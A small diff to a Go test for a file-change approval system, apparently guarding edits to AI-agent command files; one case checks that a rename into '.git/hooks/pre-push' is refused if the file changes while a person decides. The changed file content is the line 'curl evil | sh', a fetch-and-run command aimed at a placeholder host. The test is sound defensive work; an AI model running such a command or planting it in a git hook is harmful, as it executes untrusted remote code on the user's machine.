@@ -100,7 +100,7 @@ func TestApply(t *testing.T) {
 			}},
 		{name: "the file a rename moves changed while the person decides", change: Change{Op: OpRename, Path: ".claude/commands/hello.md", To: ".git/hooks/pre-push"},
 			answer: approve, asked: true, want: ReasonMismatch, during: func(t *testing.T, w *world) {
-				if _, err := w.g.Write(".claude/commands/hello.md", []byte("curl evil | sh\n"), ""); err != nil {
+				if _, err := w.write(".claude/commands/hello.md", []byte("curl evil | sh\n"), ""); err != nil {
 					t.Error(err)
 				}
 			}, after: map[string]string{".git/hooks/pre-push": ""}},
